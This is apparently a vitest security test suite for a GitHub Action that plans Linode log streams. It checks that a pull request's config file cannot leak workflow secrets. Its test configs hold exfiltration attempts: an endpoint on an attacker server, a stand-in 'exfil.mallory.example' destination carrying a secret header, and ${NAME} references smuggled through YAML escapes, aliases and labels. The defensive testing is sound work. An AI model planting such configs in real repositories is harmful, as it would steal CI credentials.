/**
 * The plan workflow as an attacker sees it: it runs on `pull_request` with the workflow's secrets
 * in its environment (the Linode token as INPUT_TOKEN, the GitHub token, secrets mapped to env for
 * the config's `${NAME}` references), and the config file comes from the pull request's head, so
 * the pull request's author writes it. Each test is such a file, run through dist/index.js as a
 * child process (mode plan, comment on) against the emulator, the GitHub stand-in and a server
 * the author controls, and asserts that no form of any secret, not even a 12-character piece of
 * one, gets out: to that server, to the step outputs, the job summary, GitHub, or the log as the
 * runner shows it (where, and only where, `::add-mask::` values count as hidden).
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startEmulator, type Emulator } from '../../emulator/index.js';
import { EXAMPLE_CLUSTER, findLeakPieces, runAction, SECRETS, TOKEN, type ActionRun } from './harness.js';
import { GITHUB_ACTIONS_BOT, startGitHubStandIn, type GitHubStandIn } from '../support/github-stand-in.js';
import { startAttackerServer, type AttackerServer } from '../support/attacker-server.js';

const GH_TOKEN = 'ghs_k3yForTheCommentStep9f8e7d6c5b4a';
/** What a workflow has in its environment on a pull request, besides the inputs. */
const WORKFLOW_ENV: Record<string, string> = {
  ...SECRETS,
  GITHUB_TOKEN: 'ghs_Zq9EnvJobToken7c6b5a4d3e2f1g0h',
  ACTIONS_RUNTIME_TOKEN: 'eyJhbGciOiJSUzI1NiJ9.runtime-token-7d2f9e1a4b6c',
  S3_ADMIN_KEY_ID: 'E2EADMINKEY0000000001',
  S3_ADMIN_SECRET_KEY: 'S3adm-Xy7/Qp+Lm=0123456789abcdefABCD',
  DEPLOY_WEBHOOK_SECRET: 'whsec_9Kq2LmN7pR4tV8xZ1bC3dF6h',
};
/** Every secret of the run, by the name a file would use for it. */
const ALL_SECRETS: Record<string, string> = { ...WORKFLOW_ENV, INPUT_TOKEN: TOKEN, 'INPUT_GITHUB-TOKEN': GH_TOKEN };

let emulator: Emulator;
let github: GitHubStandIn;
let attacker: AttackerServer;
const work = mkdtempSync(join(tmpdir(), 'linode-logs-attacker-e2e-'));
let runId = 5000;
const PR = 41;
const HEAD = 'b'.repeat(40);

/** Runs the plan of a pull request whose head has `config` as the config file. */
async function planPullRequest(config: string, inputs: Record<string, string> = {}): Promise<{ run: ActionRun; file: string }> {
  const id = runId++;
  const file = join(work, `linode-logs-${id}.yml`);
  writeFileSync(file, config);
  const eventPath = join(work, `event-${id}.json`);
  writeFileSync(
    eventPath,
    JSON.stringify({
      number: PR,
      pull_request: { number: PR, head: { sha: HEAD, repo: { full_name: 'acme/audit-config' } }, base: { repo: { full_name: 'acme/audit-config' } } },
    }),
  );
  const run = await runAction({
    mode: 'plan',
    apiUrl: emulator.url,
    config: file,
    env: {
      ...WORKFLOW_ENV,
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_REPOSITORY: `${github.owner}/${github.repo}`,
      GITHUB_SHA: 'f'.repeat(40),
      GITHUB_REF: `refs/pull/${PR}/merge`,
      GITHUB_SERVER_URL: 'https://github.com',
      GITHUB_API_URL: github.url,
      GITHUB_RUN_ID: String(id),
    },
    inputs: { 'github-token': GH_TOKEN, comment: 'true', 's3-endpoint': `${emulator.s3Url}/{region}-1`, ...inputs },
  });
  return { run, file };
}

/** Every string in a JSON value, keys included. */
function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(([k, v]) => [k, ...stringsOf(v)]);
  return [];
}

/** Each place a secret must never reach, with what it holds after the run. */
function channels(run: ActionRun): Record<string, string> {
  return {
    'the attacker server': attacker.requests.map((r) => `${r.method} ${r.url}\n${JSON.stringify(r.headers)}\n${r.body}`).join('\n'),
    'the step outputs (GITHUB_OUTPUT)': run.outputText,
    'the job summary': run.summary,
    'the PR comment': github
      .comments()
      .map((c) => c.body)
      .join('\n'),
    'the bodies sent to GitHub': github.requests.flatMap((r) => stringsOf(r.body)).join('\n'),
    'the log as the runner shows it': run.runnerLog,
  };
}

/**
 * `channel: secret (form: piece)`, the first form found of each secret in each channel, so a
 * failure says where and what; and any request to the attacker server, whatever it carried.
 */
function leaks(run: ActionRun): string[] {
  const received = attacker.describe().map((line) => `the attacker server received: ${line}`);
  return received.concat(
    ...Object.entries(channels(run)).map(([channel, text]) => {
      const seen = new Set<string>();
      return findLeakPieces(text, ALL_SECRETS)
        .filter((leak) => !seen.has(leak.split(' (')[0]!) && seen.add(leak.split(' (')[0]!))
        .map((leak) => `${channel}: ${leak}`);
    }),
  );
}

const MUTATING = new Set(['POST', 'PUT', 'DELETE', 'PATCH']);
const accountWrites = () => [
  ...emulator.requests.filter((r) => MUTATING.has(r.method)).map((r) => `${r.method} ${r.path}`),
  ...emulator.s3Requests.filter((r) => MUTATING.has(r.method)).map((r) => `S3 ${r.operation}`),
];

/** The refusal of a file that uses `${` where no secret may go: nothing out, nothing done. */
function expectRefused(run: ActionRun, file: string, lines: number[]): void {
  // The leaks and the requests first: on a build that does not refuse, these are what fail.
  expect(attacker.describe(), 'requests to the attacker server').toEqual([]);
  expect(leaks(run), 'secrets that got out').toEqual([]);
  expect(accountWrites(), 'writes to the account').toEqual([]);
  expect(run.code, run.stdout.slice(-2000)).toBe(1);
  expect(run.outputs['failure-reason']).toBe('invalid-config');
  const annotations = run.stdout.split('\n').filter((line) => line.startsWith('::error ') && line.includes(`file=${file}`));
  const at = annotations.map((line) => Number(/[,\s]line=(\d+)/.exec(line)?.[1])).filter((line) => lines.includes(line));
  expect(at, `an error annotation at line ${lines.join(' or ')} of ${file}:\n${annotations.join('\n')}`).not.toEqual([]);
  expect(annotations.some((line) => /[,\s]col=\d+/.test(line))).toBe(true);
}

/** The line (1-based) of the first line of `text` that contains `part`. */
function lineOf(text: string, part: string): number {
  const index = text.split('\n').findIndex((line) => line.includes(part));
  if (index < 0) throw new Error(`not in the config: ${part}`);
  return index + 1;
}

/** The example's destinations and streams, plus a TLS hostname: every field a case plants a reference in. */
const BASE = `version: 1
destinations:
  audit-bucket:
    type: akamai_object_storage
    details:
      bucket_name: my-audit-logs-bucket
      host: my-audit-logs-bucket.us-iad-1.linodeobjects.com
      path: ds-logs
      access_key_id: \${AUDIT_LOGS_KEY_ID}
      access_key_secret: \${AUDIT_LOGS_KEY_SECRET}
  siem:
    type: custom_https
    details:
      endpoint_url: https://siem.example.com/ingest
      data_compression: gzip
      content_type: application/json
      authentication:
        type: basic
        details:
          basic_authentication_user: linode
          basic_authentication_password: \${SIEM_PASSWORD}
      custom_headers:
        - name: X-Tenant
          value: \${SIEM_TENANT_TOKEN}
      client_certificate_details:
        tls_hostname: siem.example.com
streams:
  linode-audit:
    type: audit_logs
    destination: audit-bucket
  lke-audit:
    type: lke_audit_logs
    destination: siem
    details:
      cluster_ids: [12345]
`;

/** BASE with one line replaced (the replacement may span lines). */
function plant(line: string, replacement: string): string {
  if (!BASE.includes(line)) throw new Error(`not in BASE: ${line}`);
  return BASE.replace(line, replacement);
}

beforeAll(async () => {
  emulator = await startEmulator({ tokens: [TOKEN], provisioningMs: 0, deactivatingMs: 0 });
  github = await startGitHubStandIn();
  github.addToken(GH_TOKEN, { user: GITHUB_ACTIONS_BOT, installation: true });
  attacker = await startAttackerServer();
});
afterAll(async () => {
  await Promise.all([emulator.close(), github.close(), attacker.close()]);
});
beforeEach(() => {
  emulator.reset();
  emulator.clearFaults();
  emulator.seed({ lkeClusters: [{ ...EXAMPLE_CLUSTER }] });
  github.reset();
  github.addPullRequest({ number: PR, headSha: HEAD });
  emulator.configure({ credentials: null });
  attacker.reset();
});

describe('the base file, planted with nothing', () => {
  it('the secrets share no 12-character piece, so a leak is put down to the right one', () => {
    for (const [name, secret] of Object.entries(ALL_SECRETS)) {
      const others = Object.fromEntries(Object.entries(ALL_SECRETS).filter(([other]) => other !== name));
      expect(findLeakPieces(secret, others), name).toEqual([]);
    }
  });

  it('plans cleanly and leaks nothing (so every failure below is the planted reference)', async () => {
    const { run } = await planPullRequest(BASE);
    expect(run.code, run.stdout.slice(-2000)).toBe(0);
    expect(leaks(run)).toEqual([]);
    expect(github.comments(PR)).toHaveLength(1);
  });
});

describe('finding 1: an S3 endpoint chosen by the pull request', () => {
  const bucketsWith = (endpoint: string, keyId: string) => `buckets:
  my-audit-logs-bucket:
    region: us-iad
    endpoint: ${endpoint}
    s3_credentials:
      access_key_id: \${${keyId}}
      secret_access_key: \${S3_ADMIN_SECRET_KEY}
`;

  it('never signs a request with the Linode token for an endpoint the pull request wrote', async () => {
    const config = BASE + bucketsWith(`${attacker.url}/{region}`, 'INPUT_TOKEN');
    const { run, file } = await planPullRequest(config);
    expectRefused(run, file, [lineOf(config, 'endpoint:')]);
  });

  it("never sends a destination's own key there either", async () => {
    // The destination's bucket is under buckets:, so the plan checks it is reachable with the destination's key.
    const config = BASE + bucketsWith(`${attacker.url}/{region}`, 'S3_ADMIN_KEY_ID');
    const { run, file } = await planPullRequest(config);
    expectRefused(run, file, [lineOf(config, 'endpoint:')]);
  });
});

/**
 * One reference per case, outside the credential fields, in every YAML spelling of `${NAME}`: the
 * check is on the parsed value, so each must be refused like the plain one. `lines` are where the
 * annotation may point (an alias: where it is used, or where its anchor is).
 */
const HOST = 'host: my-audit-logs-bucket.us-iad-1.linodeobjects.com';
const SPELLINGS: Array<{ name: string; config: string; at: string[] }> = [
  // host is shown by value in the pre-flight checks: where a resolved reference leaks today.
  { name: 'host: ${INPUT_TOKEN} (plain)', config: plant(HOST, 'host: ${INPUT_TOKEN}'), at: ['host: ${'] },
  { name: 'host: "\\x24{DEPLOY_WEBHOOK_SECRET}" (double-quoted, \\x escape)', config: plant(HOST, 'host: "\\x24{DEPLOY_WEBHOOK_SECRET}"'), at: ['host: "'] },
  { name: 'host: "\\u0024{GITHUB_TOKEN}" (double-quoted, \\u escape)', config: plant(HOST, 'host: "\\u0024{GITHUB_TOKEN}"'), at: ['host: "'] },
  { name: 'host: "$\\x7bACTIONS_RUNTIME_TOKEN}" (escaped brace)', config: plant(HOST, 'host: "$\\x7bACTIONS_RUNTIME_TOKEN}"'), at: ['host: "'] },
  {
    name: 'host: "$\\<newline>{S3_ADMIN_SECRET_KEY}" (escaped line break)',
    config: plant(HOST, 'host: "$\\\n        {S3_ADMIN_SECRET_KEY}"'),
    at: ['host: "', '{S3_ADMIN_SECRET_KEY}"'],
  },
  { name: "host: '${S3_ADMIN_KEY_ID}' (single-quoted)", config: plant(HOST, "host: '${S3_ADMIN_KEY_ID}'"), at: ["host: '"] },
  { name: 'host: >- folded block', config: plant(HOST, 'host: >-\n        ${DEPLOY_WEBHOOK_SECRET}'), at: ['host: >-', '        ${DEPLOY_WEBHOOK_SECRET}'] },
  {
    name: 'host in a flow mapping',
    config: plant(
      `    details:\n      bucket_name: my-audit-logs-bucket\n      ${HOST}\n      path: ds-logs\n      access_key_id: \${AUDIT_LOGS_KEY_ID}\n      access_key_secret: \${AUDIT_LOGS_KEY_SECRET}\n`,
      '    details: { bucket_name: my-audit-logs-bucket, host: "\\x24{GITHUB_TOKEN}", path: ds-logs, access_key_id: "${AUDIT_LOGS_KEY_ID}", access_key_secret: "${AUDIT_LOGS_KEY_SECRET}" }\n',
    ),
    at: ['details: {'],
  },
  // Fields not shown by value today: refused all the same, whatever the spelling.
  {
    name: 'bucket_name: "$\\x7bGITHUB_TOKEN}"',
    config: plant('bucket_name: my-audit-logs-bucket', 'bucket_name: "$\\x7bGITHUB_TOKEN}"'),
    at: ['bucket_name: "'],
  },
  { name: "path: '${ACTIONS_RUNTIME_TOKEN}' (single-quoted)", config: plant('path: ds-logs', "path: '${ACTIONS_RUNTIME_TOKEN}'"), at: ["path: '"] },
  {
    name: 'endpoint_url: |- block literal',
    config: plant('endpoint_url: https://siem.example.com/ingest', 'endpoint_url: |-\n        ${INPUT_TOKEN}'),
    at: ['endpoint_url: |-', '        ${INPUT_TOKEN}'],
  },
  {
    name: 'tls_hostname: "\\x24{DEPLOY_WEBHOOK_SECRET}"',
    config: plant('tls_hostname: siem.example.com', 'tls_hostname: "\\x24{DEPLOY_WEBHOOK_SECRET}"'),
    at: ['tls_hostname: "'],
  },
  { name: 'content_type: ${GITHUB_TOKEN}', config: plant('content_type: application/json', 'content_type: ${GITHUB_TOKEN}'), at: ['content_type:'] },
  {
    name: 'a custom header name, in flow style',
    config: plant(
      '        - name: X-Tenant\n          value: ${SIEM_TENANT_TOKEN}',
      '        - { name: "\\u0024{INPUT_TOKEN}", value: "${SIEM_TENANT_TOKEN}" }',
    ),
    at: ['- { name:'],
  },
  {
    name: 'a partial reference: my-audit-logs-bucket.${INPUT_TOKEN}.linodeobjects.com',
    config: plant(HOST, 'host: my-audit-logs-bucket.${INPUT_TOKEN}.linodeobjects.com'),
    at: ['host: my-audit-logs-bucket.$'],
  },
  {
    name: "host: *key, an alias of a credential field's value",
    config: plant('      access_key_id: ${AUDIT_LOGS_KEY_ID}', '      access_key_id: &key ${INPUT_TOKEN}').replace(HOST, 'host: *key'),
    at: ['host: *key', 'access_key_id: &key'],
  },
  {
    name: 'a merge key <<: into the details',
    config: plant('      endpoint_url: https://siem.example.com/ingest', '      <<: { endpoint_url: "${INPUT_TOKEN}" }'),
    at: ['<<:'],
  },
  { name: 'a stream label: ${INPUT_TOKEN}:', config: plant('  linode-audit:\n', '  ${INPUT_TOKEN}:\n'), at: ['  ${INPUT_TOKEN}:'] },
  {
    name: 'a destination label, double-quoted with an escape',
    config: plant('  siem:\n', '  "\\x24{SIEM_PASSWORD}":\n').replace('destination: siem', 'destination: "\\x24{SIEM_PASSWORD}"'),
    at: ['"\\x24{SIEM_PASSWORD}":', 'destination: "'],
  },
  {
    name: 'a credential field naming the Linode token: a header value ${INPUT_TOKEN}',
    config: plant('          value: ${SIEM_TENANT_TOKEN}', '          value: ${INPUT_TOKEN}'),
    at: ['value: ${INPUT_TOKEN}'],
  },
  {
    name: 'a credential field naming a runner variable: basic_authentication_password ${ACTIONS_RUNTIME_TOKEN}',
    config: plant('basic_authentication_password: ${SIEM_PASSWORD}', 'basic_authentication_password: ${ACTIONS_RUNTIME_TOKEN}'),
    at: ['basic_authentication_password: $'],
  },
  {
    name: 'buckets.<name>.region: ${INPUT_TOKEN}',
    config:
      BASE +
      'buckets:\n  my-audit-logs-bucket:\n    region: ${INPUT_TOKEN}\n    s3_credentials:\n      access_key_id: ${S3_ADMIN_KEY_ID}\n      secret_access_key: ${S3_ADMIN_SECRET_KEY}\n',
    at: ['region: ${'],
  },
];

describe('finding 2 (and 3): `${NAME}` outside the credential fields, in any spelling, is refused', () => {
  it.each(SPELLINGS)('$name', async ({ config, at }) => {
    const { run, file } = await planPullRequest(config);
    expectRefused(
      run,
      file,
      at.map((part) => lineOf(config, part)),
    );
  });
});

describe('finding 3: a secret that reaches the plan legitimately is redacted in the plan output too', () => {
  /**
   * The account's destination writes with the key the workflow holds as AUDIT_LOGS_KEY_ID; the
   * pull request moves it to another key, while a new destination still uses that one. The diff's
   * "before" is the live value, which is a secret of this run.
   */
  const rotation = plant('access_key_id: ${AUDIT_LOGS_KEY_ID}', 'access_key_id: ${S3_ADMIN_KEY_ID}').replace(
    '  siem:\n',
    '  archive:\n    type: akamai_object_storage\n    details:\n      bucket_name: my-archive-bucket\n      host: my-archive-bucket.us-iad-1.linodeobjects.com\n      access_key_id: ${AUDIT_LOGS_KEY_ID}\n      access_key_secret: ${AUDIT_LOGS_KEY_SECRET}\n  siem:\n',
  );
  const seedLiveBucketDestination = () =>
    emulator.seed({
      destinations: [
        {
          label: 'audit-bucket',
          type: 'akamai_object_storage',
          details: {
            bucket_name: 'my-audit-logs-bucket',
            host: 'my-audit-logs-bucket.us-iad-1.linodeobjects.com',
            path: 'ds-logs',
            access_key_id: SECRETS.AUDIT_LOGS_KEY_ID!,
            access_key_secret: SECRETS.AUDIT_LOGS_KEY_SECRET!,
          },
        },
      ],
    });

  it('on a plan that succeeds', async () => {
    seedLiveBucketDestination();
    const { run } = await planPullRequest(rotation);
    expect(leaks(run)).toEqual([]);
    expect(run.code, run.stdout.slice(-2000)).toBe(0);
    expect(JSON.parse(run.outputs.plan!)).toMatchObject({
      changes: expect.arrayContaining([expect.objectContaining({ kind: 'destination', label: 'audit-bucket', action: 'update' })]),
    });
  });

  it('on a plan that fails (a pre-flight check refused)', async () => {
    seedLiveBucketDestination();
    // The API refuses the new key (it knows none): the plan fails with checks-failed, and still reports.
    emulator.configure({ credentials: { [SECRETS.AUDIT_LOGS_KEY_ID!]: SECRETS.AUDIT_LOGS_KEY_SECRET! } });
    const { run } = await planPullRequest(rotation, { 'verify-destinations': 'true' });
    expect(leaks(run)).toEqual([]);
    expect(run.code, run.stdout.slice(-2000)).toBe(1);
    expect(run.outputs['failure-reason']).toBe('checks-failed');
  });
});

describe('finding 4: verify-destinations on a pull request', () => {
  const LIVE = {
    siem: { endpoint_url: 'https://siem.example.com/ingest' },
    'audit-bucket': { bucket_name: 'my-audit-logs-bucket', host: 'my-audit-logs-bucket.us-iad-1.linodeobjects.com' },
    stable: { endpoint_url: 'https://stable.example.com/ingest' },
  } as const;
  const TARGETS = ['endpoint_url', 'bucket_name', 'host'] as const;

  it("sends no credentials to the API's verifier for a target the pull request wrote, and says why it skipped", async () => {
    emulator.seed({
      destinations: [
        {
          label: 'siem',
          type: 'custom_https',
          details: {
            ...LIVE.siem,
            data_compression: 'gzip',
            content_type: 'application/json',
            authentication: { type: 'basic', details: { basic_authentication_user: 'linode' } },
            custom_headers: [{ name: 'X-Tenant' }],
            client_certificate_details: { tls_hostname: 'siem.example.com' },
          },
        },
        {
          label: 'audit-bucket',
          type: 'akamai_object_storage',
          details: { ...LIVE['audit-bucket'], path: 'ds-logs', access_key_id: SECRETS.AUDIT_LOGS_KEY_ID! },
        },
        {
          label: 'stable',
          type: 'custom_https',
          details: { ...LIVE.stable, data_compression: 'gzip', authentication: { type: 'none' }, custom_headers: [{ name: 'X-Hook' }] },
        },
      ],
    });
    emulator.configure({ credentials: { [SECRETS.AUDIT_LOGS_KEY_ID!]: SECRETS.AUDIT_LOGS_KEY_SECRET! } });
    const config = BASE
      // An endpoint of the author's, with the workflow's basic-auth password and tenant token.
      .replace(LIVE.siem.endpoint_url, 'https://collector.mallory.example/ingest')
      // A bucket of the author's, with the workflow's Object Storage key.
      .replace('bucket_name: my-audit-logs-bucket', 'bucket_name: mallory-bucket')
      .replace(HOST, 'host: mallory-bucket.us-iad-1.linodeobjects.com')
      .replace(
        'streams:\n',
        `  stable:\n    type: custom_https\n    details:\n      endpoint_url: ${LIVE.stable.endpoint_url}\n      data_compression: gzip\n      authentication: { type: none }\n      custom_headers:\n        - name: X-Hook\n          value: \${DEPLOY_WEBHOOK_SECRET}\n` +
          // A new destination of the author's: the verifier would POST to it with a workflow secret as a header
          // (the Linode token itself, ${INPUT_TOKEN}, is refused outright: see below).
          `  exfil:\n    type: custom_https\n    details:\n      endpoint_url: https://exfil.mallory.example/new\n      data_compression: gzip\n      authentication: { type: none }\n      custom_headers:\n        - name: X-Token\n          value: \${S3_ADMIN_SECRET_KEY}\nstreams:\n`,
      );
    const { run } = await planPullRequest(config, { 'verify-destinations': 'true' });
    expect(run.outputs.plan, run.stdout.slice(-3000)).toBeDefined();

    const live = new Map(Object.entries(LIVE) as Array<[string, Record<string, string>]>);
    const verified = emulator.requests.filter((r) => r.method === 'POST' && r.path === '/monitor/streams/destinations/verify');
    const wrongTarget = verified.flatMap((r) => {
      const body = r.body as { label: string; details: Record<string, unknown> };
      const current = live.get(body.label);
      const moved = current === undefined ? ['(new)'] : TARGETS.filter((k) => body.details[k] !== current[k]);
      if (moved.length === 0) return [];
      const carried = [...new Set(findLeakPieces(stringsOf(body).join('\n'), ALL_SECRETS).map((leak) => leak.split(' (')[0]!))];
      return carried.length === 0 ? [] : [`${body.label} (${moved.join(', ')} not the live one): ${carried.join('; ')}`];
    });
    expect(wrongTarget, 'verify requests carrying credentials to a target the pull request wrote').toEqual([]);
    expect(leaks(run)).toEqual([]);

    const checks = (JSON.parse(run.outputs.plan!) as { checks: Array<{ subject: string; check: string; status: string; detail: string }> }).checks.filter(
      (c) => c.check === 'API destination check',
    );
    const checkOf = (label: string) => checks.find((c) => c.subject === `destination ${label}`);
    for (const label of ['siem', 'audit-bucket', 'exfil']) {
      expect(checkOf(label), label).toMatchObject({ status: 'skipped', detail: expect.stringMatching(/pull request/i) });
    }
    // Not verification turned off: the destination whose target is the live one is still checked.
    expect(checkOf('stable')).toMatchObject({ status: 'pass' });
    expect(verified.map((r) => (r.body as { label: string }).label)).toEqual(['stable']);
    expect(attacker.describe()).toEqual([]);
  });
});

describe('finding 7: an API error reason that echoes a secret across the 500-character cut', () => {
  /** A reason of the API's error envelope in which `secret` starts 16 characters before the cut. */
  const straddling = (secret: string) => ({ errors: [{ reason: `${'x'.repeat(483)} ${secret} and more text after it` }] });

  it('leaks no piece of the token from a refused listing', async () => {
    emulator.inject({ method: 'GET', path: '^/monitor/streams/destinations$', status: 400, body: straddling(TOKEN) });
    const { run } = await planPullRequest(BASE);
    expect(leaks(run)).toEqual([]);
    expect(run.code).toBe(1);
    expect(run.outputs['failure-reason']).toBe('api-error');
  });

  it("leaks no piece of a destination's password from a refused verify", async () => {
    emulator.seed({
      destinations: [
        {
          label: 'siem',
          type: 'custom_https',
          details: { endpoint_url: 'https://siem.example.com/ingest', data_compression: 'gzip', authentication: { type: 'none' } },
        },
      ],
    });
    emulator.inject({ method: 'POST', path: '/verify$', status: 400, times: 4, body: straddling(SECRETS.SIEM_PASSWORD!) });
    const { run } = await planPullRequest(BASE, { 'verify-destinations': 'true' });
    expect(leaks(run)).toEqual([]);
    expect(run.code).toBe(1);
  });
});
